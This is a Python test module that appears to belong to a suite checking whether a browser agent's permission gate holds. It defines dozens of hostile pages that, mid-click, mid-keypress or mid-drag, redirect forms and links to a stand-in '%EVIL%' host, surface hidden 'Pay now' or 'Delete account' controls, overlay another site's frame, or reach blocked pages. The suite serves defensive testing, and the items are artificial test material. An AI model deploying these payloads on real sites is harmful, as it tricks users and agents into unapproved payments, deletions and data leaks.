# ruff: noqa: E501 - pages and calls read best as one line each
"""Attacks by what a page does in its turn of an act: between key and click, press and release, hover and press, card and act."""

from __future__ import annotations

from gate_suite.attacks_keys import HELLO, LEAVE, sends
from gate_suite.case import Call, Case, Rule

_CLICK = Call("click", {"ref": '@button "Next"'})
_TWICE = Call("click", {"ref": '@button "Next"', "count": 2})
_FIELD = '@textbox "Search"'
_ENTER = Call("press", {"ref": _FIELD, "keys": ["Enter"]})
_SUBMIT = Call("type", {"ref": _FIELD, "text": "a", "submit": True})
_PAYS = "<form method=post action=grave/pay><button id=g>Pay now</button></form>"
_IN = "<body style='margin:0'><button style='width:100vw;height:100vh' onclick=\"fetch('/%N%/plain/x',{method:'POST'})\">More</button>"


def _turn(name: str, html: str, *steps: Call, meanwhile: str = "", **pages: str) -> Case:
    """A hasty person gave leave for the site at a harmless button, and allows nothing after that."""
    words = ("Hello", "Next", "Press", "Drag", "Search") if meanwhile else ("Hello",)
    person = Rule(words, once=bool(meanwhile), meanwhile=meanwhile)
    return Case(f"turn: {name}", {"home": HELLO + html, **pages}, (*LEAVE, *(steps or (_CLICK,))), person)


def _form(on: str) -> str:
    return f"<form method=post action=plain/x id=f><input aria-label=Search name=q {on}><button>Go</button></form>"


_AWAY = "%EVIL%/plain/x"
KEYS = (
    *(
        _turn(
            f"a form goes elsewhere on {event} of Enter, by {step.tool}",
            _form(f"on{event}=\"if(event.key==='Enter')this.form.action='{_AWAY}'\""),
            step,
        )
        for event in ("keydown", "keypress")
        for step in (_ENTER, _SUBMIT)
    ),
    _turn("a form goes elsewhere as a text is put in", _form(f"oninput=\"this.form.action='{_AWAY}'\""), _SUBMIT),
    _turn("a form goes elsewhere on change", _form(f"onchange=\"this.form.action='{_AWAY}'\""), _SUBMIT),
    _turn(
        "a form goes elsewhere as its data are gathered",
        f"<form method=post action=plain/x onformdata=\"this.action='{_AWAY}'\"><button>Next</button></form>",
    ),
    _turn(
        "a first button comes before Enter",
        _form(f"onkeydown=\"f.insertAdjacentHTML('afterbegin','<button formaction={_AWAY}>More</button>')\""),
        _ENTER,
    ),
    _turn(
        "a field is tied to another form on keydown",
        _form("onkeydown=\"this.setAttribute('form','h')\"") + f"<form id=h method=post action='{_AWAY}'></form>",
        _ENTER,
    ),
    _turn(
        "a link leads elsewhere on keydown",
        f"<a href='#a' onkeydown=\"this.href='{_AWAY}'\">Next</a>",
        Call("press", {"ref": '@link "Next"', "keys": ["Enter"]}),
    ),
    _turn(
        "a link leads elsewhere as it gets the focus",
        f"<a href='#a' onfocus=\"this.href='{_AWAY}'\">Next</a>",
        Call("press", {"ref": '@link "Next"', "keys": ["Enter"]}),
    ),
    _turn(
        "a button goes elsewhere as Space goes down",
        f"<form method=post action=plain/x><button onkeydown=\"this.setAttribute('formaction','{_AWAY}')\">Next</button></form>",
        Call("press", {"ref": '@button "Next"', "keys": ["Space"]}),
    ),
    _turn(
        "a button goes elsewhere as Space is let go",
        f"<form method=post action=plain/x><button onkeyup=\"this.setAttribute('formaction','{_AWAY}')\">Next</button></form>",
        Call("press", {"ref": '@button "Next"', "keys": ["Space"]}),
    ),
    _turn(
        "a base comes on keydown",
        "<form method=post action=plain/x><button onkeydown=\"document.head.insertAdjacentHTML('beforeend','<base href=%EVIL%/>')\">Next</button></form>",
        Call("press", {"ref": '@button "Next"', "keys": ["Enter"]}),
    ),
    _turn(
        "the focus goes into another site's frame at the first key",
        "<input aria-label=Search onkeydown='i.focus()'><iframe id=i src='%EVIL%/in'></iframe>",
        Call("press", {"ref": _FIELD, "keys": ["a", "Enter"]}),
        **{"evil/in": "<script>onfocus=()=>b.focus()</script>" + _IN.replace("<button", "<button id=b autofocus")},
    ),
    _turn(
        "a dialog gives a grave button the focus between keys",
        f"<button onclick='d.showModal()'>Next</button><dialog id=d>{_PAYS}</dialog>",
        Call("press", {"ref": '@button "Next"', "keys": ["Enter", "Enter"]}),
    ),
    _turn(
        "a popover gives a grave button the focus between keys",
        f"<button popovertarget=d>Next</button><div popover id=d>{_PAYS.replace('<button', '<button autofocus')}</div>",
        Call("press", {"ref": '@button "Next"', "keys": ["Enter", "Space"]}),
    ),
    _turn(
        "a command opens a dialog with a grave button between keys",
        f"<button command=show-modal commandfor=d>Next</button><dialog id=d>{_PAYS}</dialog>",
        Call("press", {"ref": '@button "Next"', "keys": ["Enter", "Enter"]}),
    ),
    _turn(
        "a shortcut of a frame of another site",
        "<iframe src='%EVIL%/in'></iframe><input aria-label=Search>",
        Call("press", {"ref": _FIELD, "keys": ["Alt+x"]}),
        Call("press", {"ref": _FIELD, "keys": ["Alt+Shift+x"]}),
        **{"evil/in": _IN.replace("<button", "<button accesskey=x")},
    ),
    _turn(
        "a shortcut that comes as the key goes down",
        f"{_PAYS}<input aria-label=Search onkeydown=\"g.accessKey='x'\">",
        Call("press", {"ref": _FIELD, "keys": ["Alt+Shift+x"]}),
        Call("press", {"ref": _FIELD, "keys": ["Alt+x"]}),
    ),
    _turn(
        "a field becomes a button as a letter comes",
        _form(f"oninput=\"this.type='submit';this.formAction='{_AWAY}'\""),
        Call("press", {"ref": _FIELD, "keys": ["a", "Enter"]}),
    ),
    _turn(
        "a grave button gets the focus while the card for keys alone is shown",
        _PAYS,
        Call("press", {"keys": ["Enter"]}),
        meanwhile="g.focus()",
    ),
    _turn(
        "the page goes back while the card for keys alone is shown",
        _PAYS,
        Call("press", {"keys": ["Enter"]}),
        meanwhile="document.activeElement.blur();g.focus()",
    ),
    _turn(
        "a grave button gets the focus by autofocus while the card is shown",
        "<input aria-label=Search>",
        Call("press", {"keys": ["Enter"]}),
        meanwhile="document.body.insertAdjacentHTML('beforeend',`<form method=post action=grave/pay><button autofocus>Pay now</button></form>`);document.activeElement.blur()",
    ),
)
_SIZE = "style='width:200px;height:60px'"
_OVER = "style='position:absolute;left:0;top:0;width:200px;height:60px'"
_WRAP = "<div style='position:relative;width:200px;height:60px'>"
_DIV = f"div role=button tabindex=0 {_SIZE}"


def _both(name: str, on: str, more: str, *steps: Call, **pages: str) -> tuple[Case, Case]:
    """With a button of the browser's own and with one of the page's, which the browser itself presses where it can."""
    return (
        _turn(name, f"{_WRAP}<button {_SIZE} {on}>Next</button>{more}</div>", *steps, **pages),
        _turn(f"{name}, one of the page's own", f"{_WRAP}<{_DIV} {on}>Next</div>{more}</div>", *steps, **pages),
    )


_FRAME = f"<iframe id=i src='%EVIL%/in' hidden {_OVER}></iframe>"
_GRAVE = f"<form method=post action=grave/pay><button id=g {_OVER} hidden>Pay now</button></form>"
PRESSES = (
    *_both(
        "another site's frame comes under the pointer", "onpointermove='i.hidden=false'", _FRAME, **{"evil/in": _IN}
    ),
    *_both(
        "another site's frame comes at the first press of two",
        "onclick='i.hidden=false'",
        _FRAME,
        _TWICE,
        **{"evil/in": _IN},
    ),
    *_both(
        "another site's frame comes as it is pressed",
        "onpointerdown='i.hidden=false'",
        _FRAME,
        _TWICE,
        **{"evil/in": _IN},
    ),
    *_both("a grave button comes at the first press of two", "onclick='g.hidden=false'", _GRAVE, _TWICE),
    *_both(
        "a grave button catches the pointer as it is pressed",
        "onpointerdown='g.hidden=false;g.style.left=\"300px\";g.setPointerCapture(event.pointerId)'",
        _GRAVE,
    ),
    *_both(
        "a grave button comes after the pointer by a style",
        "class=n",
        f"<style>.n:hover~form #g{{display:block}}#g{{display:none}}</style>{_GRAVE.replace(' hidden', '')}",
    ),
    *_both(
        "a grave button comes while it is held, by a style",
        "class=n",
        f"<style>.n:active~form #g{{left:0 !important}}</style>{_GRAVE.replace(' hidden', '').replace('left:0', 'left:300px')}",
    ),
    *_both(
        "a grave button comes in a transition of views",
        "onpointerdown='document.startViewTransition?.(()=>{g.hidden=false})'",
        _GRAVE,
        _TWICE,
    ),
    *_both(
        "a grave button comes with the end of a transition",
        "onpointerenter='this.style.opacity=.5' ontransitionend='g.hidden=false'",
        f"<style>[role=button],button{{transition:opacity 10ms}}</style>{_GRAVE}",
        _TWICE,
    ),
    _turn(
        "a base comes as it is pressed",
        "<form method=post action=plain/x><button onpointerdown=\"document.head.insertAdjacentHTML('beforeend','<base href=%EVIL%/>')\">Next</button></form>",
    ),
    _turn(
        "a base comes as a link is pressed",
        "<a href='plain/x' onpointerdown=\"document.head.insertAdjacentHTML('beforeend','<base href=%EVIL%/>')\">Next</a>",
        Call("click", {"ref": '@link "Next"'}),
    ),
    _turn(
        "a base comes while the card is shown",
        "<form method=post action=plain/x><button>Next</button></form>",
        meanwhile="document.head.insertAdjacentHTML('beforeend','<base href=%EVIL%/>')",
    ),
    _turn(
        "a link tells another site as it is pressed",
        f"<a href='%HOME%/b' onpointerdown=\"this.ping='{_AWAY}'\">Next</a>",
        Call("click", {"ref": '@link "Next"'}),
        **{"home/b": "<title>B</title>"},
    ),
    _turn(
        "a link becomes another one's inside as it is pressed",
        f"<a href='#a' id=n onpointerdown='l.prepend(this.firstChild);this.remove()'>Next</a><a id=l href='{_AWAY}'> </a>",
        Call("click", {"ref": '@link "Next"'}),
    ),
    _turn(
        "a drawn link is animated elsewhere as it is pressed",
        f"<svg width=300 height=200><a href='#b' onpointerdown=\"this.innerHTML='<animate attributeName=href values={_AWAY} dur=100s fill=freeze /><text y=20>Next</text>'\"><text y=20>Next</text></a></svg>",
        Call("click", {"ref": '@link "Next"'}),
    ),
    _turn(
        "a label is given to another field while the card is shown",
        f"<label id=l for=a><span role=button tabindex=0>Next</span></label><input type=checkbox id=a aria-label=A><input type=checkbox id=b aria-label='Delete account' onchange=\"{sends('delete')}\">",
        meanwhile="l.htmlFor='b'",
    ),
    _turn(
        "a label is given to another field as it is pressed",
        f"<label id=l for=a><span role=button tabindex=0 onpointerdown=\"l.htmlFor='b'\">Next</span></label><input type=checkbox id=a aria-label=A><input type=checkbox id=b aria-label='Delete account' onchange=\"{sends('delete')}\">",
    ),
    _turn(
        "ids are changed as a label is pressed",
        f"<label id=l for=a><span role=button tabindex=0 onpointerdown=\"a.id='z';b.id='a'\">Next</span></label><input type=checkbox id=a aria-label=A><input type=checkbox id=b aria-label='Delete account' onchange=\"{sends('delete')}\">",
    ),
)
_NOTE = "<div draggable=true id=n role=button tabindex=0 style='width:90px;height:40px' ondragstart=\"event.dataTransfer.setData('text','n')\">Note</div>"
_DROP = "<div id=t role=button tabindex=0 aria-label=Archive style='width:200px;height:90px' ondragover='event.preventDefault();{over}' ondrop=\"{drop}\">Archive</div>"
_OVER = "style='position:fixed;inset:0;margin:0'"
_DELETES = f"ondragover='event.preventDefault()' ondrop=\"{sends('delete')}\""
_DRAG = Call("drag", {"ref": '@button "Note"', "to": '@button "Archive"'})
_KEPT = ("stopPropagation", "stopImmediatePropagation")
SILENT = (
    *(
        _turn(
            f"a link leads elsewhere and keeps its click to itself by {kept}",
            f"<a href='#a' onclick=\"event.{kept}();this.href='{_AWAY}'\">Next</a>",
            Call("click", {"ref": '@link "Next"'}),
        )
        for kept in _KEPT
    ),
    *(
        _turn(
            f"a form goes elsewhere and keeps its sending to itself by {kept}, {method}, {step.tool}",
            f"<form action=plain/x method={method} onsubmit=\"event.{kept}();this.action='{_AWAY}'\"><input name=q aria-label=Search><button>Next</button></form>",
            step,
        )
        for kept, method, step in ((_KEPT[0], "get", _CLICK), (_KEPT[1], "post", _CLICK), (_KEPT[0], "post", _ENTER))
    ),
    _turn(
        "a window takes its clicks for itself",
        f"<a href='#a' id=a>Next</a><script>addEventListener('click',(e)=>{{if(e.target===a){{e.stopImmediatePropagation();a.href='{_AWAY}'}}}},true)</script>",
        Call("click", {"ref": '@link "Next"'}),
    ),
    _turn(
        "a listener of the window comes as it is pressed",
        f"<a href='#a' id=a onpointerdown=\"addEventListener('click',()=>{{a.href='{_AWAY}'}})\">Next</a>",
        Call("click", {"ref": '@link "Next"'}),
    ),
    _turn(
        "a listener of the window comes as a form is sent",
        f"<form action=plain/x onclick=\"addEventListener('submit',()=>{{this.action='{_AWAY}'}})\"><button>Next</button></form>",
    ),
    Case(
        "turn: a form with fields is sent all the same (control)",
        {
            "home": HELLO
            + "<form action=plain/x onsubmit='event.stopPropagation()'><input name=q aria-label=Search><button>Next</button></form>"
        },
        (*LEAVE, Call("type", {"ref": _FIELD, "text": "a"}), _CLICK),
        Rule(ordinary=True),
        must=("home/plain/x",),
    ),
)
DRAGS = (
    _turn(
        "a drop target is renamed as something comes over it",
        _NOTE + _DROP.format(over="this.ariaLabel=this.textContent=`Delete forever`", drop=sends("delete")),
        _DRAG,
    ),
    _turn(
        "a drop target makes way for another one",
        _NOTE
        + _DROP.format(over="x.hidden=false", drop="1")
        + f"<div id=x hidden style='position:fixed;inset:0' aria-label='Delete forever' ondragover='event.preventDefault()' ondrop=\"{sends('delete')}\">Delete forever</div>",
        _DRAG,
    ),
    *(
        _turn(
            f"a picture of what is dragged comes over another place, {how}",
            _NOTE
            + _DROP.format(over="", drop="1")
            + f"<script>t.addEventListener('dragover',()=>{{if(!window.y)document.body.insertAdjacentHTML('beforeend',`{html}`)}})</script>",
            _DRAG,
        )
        for how, html in (
            ("which it holds", f"<div id=y {_OVER}>Note<div {_OVER} {_DELETES}>Delete forever</div></div>"),
            ("which holds it", f"<div id=y {_OVER} {_DELETES}>Delete forever<p {_OVER}>Note</p></div>"),
            ("of which an empty part lies there", f"<div id=y {_OVER} {_DELETES}>Delete forever<p {_OVER}></p></div>"),
            (
                "which lies below it",
                f"<div id=y {_OVER} {_DELETES}>Delete forever</div><div style='pointer-events:none'>Note</div>",
            ),
        )
    ),
    _turn(
        "an empty part of a place that was hidden comes over a drop target",
        _NOTE
        + _DROP.format(over="x.hidden=false", drop="1")
        + f"<div id=x hidden {_OVER} {_DELETES}>Delete forever<p {_OVER}></p></div>",
        _DRAG,
    ),
    _turn(
        "another site's frame comes under what is dragged",
        _NOTE
        + _DROP.format(over="i.hidden=false", drop="1")
        + "<iframe id=i hidden style='position:fixed;inset:0;width:100%;height:100%' src='%EVIL%/in'></iframe>",
        _DRAG,
        **{
            "evil/in": "<body style='height:90vh' ondragover='event.preventDefault()' ondrop=\"fetch('/%N%/plain/x',{method:'POST'})\">In"
        },
    ),
)
_BLOCKED = "<title>Blocked</title><h1>The blocked words</h1>"


def _leads(name: str, html: str, *steps: Call, **pages: str) -> Case:
    return Case(
        f"blocked: {name}",
        {"home": HELLO + html, "blocked/w": _BLOCKED, **pages},
        (*LEAVE, *(steps or (_CLICK,)), Call("readPage", {"full": True})),
        unseen=("The blocked words",),
    )


LEADS = (
    _leads(
        "a page that refreshes itself to it",
        "<button onclick=\"document.head.insertAdjacentHTML('beforeend','<meta http-equiv=refresh content=0;url=%BLOCKED%/w>')\">Next</button>",
    ),
    _leads("an object of it", "<object data='%BLOCKED%/w' width=300 height=90></object><button>Next</button>"),
    _leads(
        "an embedded page of it", "<embed src='%BLOCKED%/w' type=text/html width=300 height=90><button>Next</button>"
    ),
    _leads(
        "a frame that a link is opened in",
        "<iframe name=t></iframe><a href='%BLOCKED%/w' target=t>Next</a>",
        Call("click", {"ref": '@link "Next"'}),
    ),
    _leads(
        "a frame that a form is sent into",
        "<iframe name=t></iframe><form action='%BLOCKED%/w' target=t><button>Next</button></form>",
    ),
    _leads(
        "a frame of a frame of it by a refresh",
        "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=%BLOCKED%/w'>\" width=300 height=90></iframe><button>Next</button>",
    ),
    _leads(
        "what a page goes to by its own going",
        "<a href='%HOME%/b'>Next</a><script>self.navigation?.addEventListener('navigate',(e)=>{if(e.canIntercept&&e.destination.url.endsWith('/b'))e.intercept({handler:async()=>{location.href='%BLOCKED%/w'}})})</script>",
        Call("click", {"ref": '@link "Next"'}),
        **{"home/b": "<script>location.href='%BLOCKED%/w'</script>"},
    ),
    _leads(
        "a window of a name that is already there", "<button onclick=\"open('%BLOCKED%/w','w')\">Next</button>", _CLICK
    ),
)
CASES = (*KEYS, *PRESSES, *SILENT, *DRAGS, *LEADS)
